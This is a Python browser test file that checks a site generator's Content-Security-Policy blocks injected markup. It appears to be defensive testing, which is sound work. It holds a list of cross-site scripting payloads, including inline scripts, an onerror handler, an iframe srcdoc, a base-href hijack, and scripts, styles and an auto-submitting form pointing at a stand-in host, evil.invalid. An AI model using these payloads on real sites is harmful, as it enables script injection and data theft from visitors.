"""The second barrier: what got past every check of finished pages would still not run, load or send anything."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route

from hornbook.publish import Engine
from tests.browser.sites import Sites

ATTACKS = {
    "a script in the page": "<script>window.ran = 1</script>",
    "a handler": '<img src="x:" onerror="window.ran = 1">',
    "a script of another site": '<script src="https://evil.invalid/x.js"></script>',
    "a script in an address": '<script src="data:text/javascript,window.ran=1"></script>',
    "a page within the page": '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    "a picture of another site": '<img src="https://evil.invalid/x.png">',
    "a style of another site": '<link rel="stylesheet" href="https://evil.invalid/x.css">',
    "a form": '<form id="sent" action="https://evil.invalid/"></form><script>sent.submit()</script>',
    "another root for addresses": '<base href="https://evil.invalid/">',
}
PAGES = {"a page of the site": "terms/square/", "an embed": "embed/term/square/"}


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with browser.new_context() as context:
        yield context.new_page()


def smuggled(page: Page, address: str, *, policy: bool) -> list[str]:
    """Open a page with every attack at its end, and perhaps without its policy; what was asked of the other site."""
    asked: list[str] = []

    def smuggle(route: Route) -> None:
        answer = route.fetch()
        whole = answer.text() if policy else answer.text().replace("Content-Security-Policy", "none")
        route.fulfill(response=answer, body=whole.replace("</body>", "".join(ATTACKS.values()) + "</body>"))

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("https://evil.invalid/**", answer)
    page.route(address, smuggle)
    page.goto(address, wait_until="domcontentloaded")
    page.wait_for_timeout(300)
    return asked


@pytest.mark.parametrize("engine", Engine)
@pytest.mark.parametrize("address", PAGES.values(), ids=PAGES.keys())
def test_what_is_smuggled_into_a_page_does_nothing(page: Page, sample: Sites, engine: Engine, address: str) -> None:
    assert smuggled(page, sample.address(engine) + address, policy=True) == []
    assert page.evaluate("window.ran") is None
    assert "evil.invalid" not in page.evaluate("document.querySelector('a[href]').href")


def test_without_its_policy_the_page_would_be_taken_over(page: Page, home: str) -> None:
    assert smuggled(page, home + "terms/square/", policy=False) != []
